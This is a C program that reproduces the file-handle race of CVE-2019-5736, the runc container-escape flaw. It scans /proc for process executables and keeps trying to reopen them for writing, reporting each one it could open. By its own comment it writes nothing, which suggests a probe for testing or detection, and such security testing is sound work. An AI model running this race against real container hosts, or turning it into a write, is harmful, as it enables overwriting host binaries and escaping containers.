/*
 * The attack of CVE-2019-5736: takes an O_PATH descriptor of every /proc/PID/exe it sees, and keeps trying to open those
 * for writing, which the kernel grants as soon as nobody executes the file any more (ETXTBSY before). Only opens;
 * nothing is written. Ends when /tmp/stop exists or after the number of rounds given.
 * With a second argument it goes only for files whose path begins with that, and ends when it has them all.
 * Prints `HIT <target>` for each executable that it could open for writing, then how many it has seen.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define HELD 256

struct prey { int fd; dev_t device; ino_t inode; int hit; };

static struct prey held[HELD];
static int held_count;

static void remember(const char *path, const char *only)
{
	struct stat state;
	char target[PATH_MAX];
	ssize_t length = readlink(path, target, sizeof target - 1);
	target[length > 0 ? length : 0] = '\0';
	if (strncmp(target, only, strlen(only)) != 0)
		return;
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	if (held_count == HELD || fstat(fd, &state)) {
		close(fd);
		return;
	}
	for (int i = 0; i < held_count; i++) {
		if (held[i].device == state.st_dev && held[i].inode == state.st_ino) {
			close(fd);
			return;
		}
	}
	held[held_count++] = (struct prey) { fd, state.st_dev, state.st_ino, 0 };
}

static void attempt(struct prey *prey)
{
	static const int flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_APPEND };
	char link[64], target[PATH_MAX];
	snprintf(link, sizeof link, "/proc/self/fd/%d", prey->fd);
	for (size_t i = 0; i < sizeof flags / sizeof *flags && !prey->hit; i++) {
		int fd = open(link, flags[i] | O_CLOEXEC);
		if (fd < 0)
			continue;
		ssize_t length = readlink(link, target, sizeof target - 1);
		printf("HIT %.*s\n", (int) (length > 0 ? length : 0), target);
		prey->hit = 1;
		close(fd);
	}
}

int main(int argc, char **argv)
{
	long rounds = argc > 1 ? atol(argv[1]) : 1000000;
	for (long round = 0; round < rounds && access("/tmp/stop", F_OK) != 0; round++) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc && (entry = readdir(proc));) {
			if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid())
				continue;
			char path[300];
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			remember(path, argc > 2 ? argv[2] : "");
		}
		if (proc)
			closedir(proc);
		int open_prey = 0;
		for (int i = 0; i < held_count; i++) {
			attempt(&held[i]);
			open_prey += !held[i].hit;
		}
		if (argc > 2 && held_count > 0 && open_prey == 0)
			break;
	}
	printf("seen %d\n", held_count);
	return 0;
}
